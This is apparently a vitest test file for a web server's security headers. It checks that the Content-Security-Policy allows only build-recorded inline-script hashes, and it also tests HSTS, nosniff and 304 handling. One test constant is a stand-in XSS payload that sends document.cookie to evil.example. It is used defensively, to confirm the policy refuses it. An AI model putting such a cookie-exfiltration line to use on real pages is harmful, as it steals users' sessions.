import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildScriptHashes, buildStyleHashes, createApp } from '../app'
import { inlineScriptHashes, pagePolicy } from './security-headers'

// The real index.html: whatever inline scripts it carries (the theme/language one that runs
// before first paint, the early-click keeper) must be allowed by hash, and nothing else.
const indexHtml = readFileSync(join(import.meta.dirname, '../../index.html'), 'utf8')
const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const indexHashes = [...indexHtml.matchAll(/<script(?: id="[\w-]+")?>([\s\S]*?)<\/script>/g)].map(
  (m) => hashOf(m[1] ?? ''),
)
const expectedHash = indexHashes[0] ?? ''

describe('inlineScriptHashes', () => {
  it('hashes the exact text of each inline script and skips external ones', () => {
    expect(indexHashes.length).toBeGreaterThan(0)
    expect(inlineScriptHashes(indexHtml)).toEqual(indexHashes)
    expect(
      inlineScriptHashes(
        '<script src="/a.js"></script><script type="module">x()</script><SCRIPT>y()</SCRIPT >',
      ),
    ).toEqual([
      `'sha256-${createHash('sha256').update('x()').digest('base64')}'`,
      `'sha256-${createHash('sha256').update('y()').digest('base64')}'`,
    ])
  })

  it('builds a policy that forbids plugins, base changes, framing and inline code', () => {
    const policy = pagePolicy([expectedHash], false)
    expect(policy).toContain(`script-src 'self' ${expectedHash}`)
    expect(policy).toContain("object-src 'none'")
    expect(policy).toContain("base-uri 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).not.toContain('unsafe-inline')
    expect(policy).not.toContain('upgrade-insecure-requests')
    expect(pagePolicy([], true)).toContain('upgrade-insecure-requests')
  })
})

const injected = 'fetch("https://evil.example/?c=" + document.cookie)'

describe('security headers on the served site', () => {
  let root: string
  let app: ReturnType<typeof createApp>
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'security-headers-'))
    const write = (path: string, content: string) => {
      mkdirSync(dirname(join(root, path)), { recursive: true })
      writeFileSync(join(root, path), content)
    }
    const files = {
      'en/index.html': indexHtml,
      // A page that carries a script nobody built (an injection, a template mistake).
      'es/index.html': indexHtml.replace('</body>', `<script>${injected}</script></body>`),
      'en/404.html': indexHtml,
      'es/404.html': indexHtml,
    }
    for (const [file, content] of Object.entries(files)) write(`pages/${file}`, content)
    write(
      'pages/manifest.json',
      JSON.stringify({
        origin: 'http://build.test',
        files: Object.keys(files),
        pages: [{ path: '/' }],
      }),
    )
    write('client/favicon.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>')
    write('client/assets/app-1234.js', 'console.log(1)')
    app = createApp({ clientDir: join(root, 'client'), trustProxy: { mode: 'hops', hops: 1 } })
  })
  afterAll(() => rmSync(root, { recursive: true, force: true }))

  it('a page never widens its own policy: an inline script that was not built gets no hash', async () => {
    const response = await app.request('/', { headers: { 'accept-language': 'es' } })
    expect(await response.text()).toContain(injected)
    const csp = response.headers.get('content-security-policy') ?? ''
    const injectedHash = `'sha256-${createHash('sha256').update(injected).digest('base64')}'`
    expect(csp).not.toContain(injectedHash)
    expect(csp).toContain(expectedHash)
    expect(csp).toBe((await app.request('/')).headers.get('content-security-policy'))
  })

  it('a page gets a CSP with the hash of the known inline script, computed at build time', async () => {
    const response = await app.request('/')
    expect(response.status).toBe(200)
    const csp = response.headers.get('content-security-policy') ?? ''
    expect(csp).toContain(expectedHash)
    expect(csp).toContain("object-src 'none'")
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
    expect(response.headers.get('strict-transport-security')).toBeNull()
  })

  it('a 304 revalidation carries no policy, so the browser keeps the page policy it stored', async () => {
    const first = await app.request('/')
    const etag = first.headers.get('etag') ?? ''
    expect(etag).not.toBe('')
    const revalidated = await app.request('/', { headers: { 'if-none-match': etag } })
    expect(revalidated.status).toBe(304)
    expect(revalidated.headers.get('content-security-policy')).toBeNull()
  })

  it('adds HSTS when the request came over HTTPS (through the trusted proxy)', async () => {
    const response = await app.request('/', { headers: { 'x-forwarded-proto': 'https' } })
    expect(response.headers.get('strict-transport-security')).toBe(
      'max-age=63072000; includeSubDomains',
    )
  })

  it('a script gets nosniff (and HSTS over HTTPS), none of the headers only documents use', async () => {
    const script = await app.request('/assets/app-1234.js', {
      headers: { 'x-forwarded-proto': 'https' },
    })
    expect(script.status).toBe(200)
    expect(script.headers.get('x-content-type-options')).toBe('nosniff')
    expect(script.headers.get('strict-transport-security')).not.toBeNull()
    for (const documentOnly of [
      'content-security-policy',
      'referrer-policy',
      'x-frame-options',
      'cross-origin-opener-policy',
      'permissions-policy',
    ]) {
      expect(script.headers.get(documentOnly), documentOnly).toBeNull()
    }
  })

  it('other answers get a deny-all policy; unknown API paths a JSON 404 that is never cached', async () => {
    const asset = await app.request('/favicon.svg')
    expect(asset.headers.get('content-security-policy')).toContain("default-src 'none'")
    const api = await app.request('/api/v1/nothing', { headers: { 'accept-language': 'es' } })
    expect(api.status).toBe(404)
    expect(api.headers.get('cache-control')).toBe('no-store')
    expect(await api.json()).toMatchObject({ success: false, code: 'not_found' })
  })
})

describe('the build’s list of inline scripts', () => {
  it('adds the hashes the prerender step recorded, and only well-formed ones', () => {
    const root = mkdtempSync(join(tmpdir(), 'csp-build-'))
    try {
      mkdirSync(join(root, 'pages'))
      const recorded = `'sha256-${createHash('sha256').update('scroll()').digest('base64')}'`
      writeFileSync(
        join(root, 'pages/csp-script-hashes.json'),
        JSON.stringify([recorded, "'unsafe-inline'", 42]),
      )
      expect(indexHashes).toHaveLength(3)
      expect(buildScriptHashes(join(root, 'client'))).toEqual([...indexHashes, recorded])
      expect(buildScriptHashes(join(root, 'nowhere/client'))).toEqual(indexHashes)
    } finally {
      rmSync(root, { recursive: true, force: true })
    }
  })
})

describe('the build’s list of inlined stylesheets', () => {
  it('allows the styles the prerender step recorded in style-src, and only well-formed ones', async () => {
    const root = mkdtempSync(join(tmpdir(), 'csp-styles-'))
    try {
      mkdirSync(join(root, 'pages'))
      const recorded = hashOf('main{color:red}')
      writeFileSync(
        join(root, 'pages/csp-style-hashes.json'),
        JSON.stringify([recorded, "'unsafe-inline'"]),
      )
      expect(buildStyleHashes(join(root, 'client'))).toEqual([recorded])
      expect(buildStyleHashes(join(root, 'nowhere/client'))).toEqual([])
      expect(pagePolicy([], false, [recorded])).toContain(`style-src 'self' ${recorded}`)
      expect(pagePolicy([], false)).toContain("style-src 'self';")
    } finally {
      rmSync(root, { recursive: true, force: true })
    }
  })
})
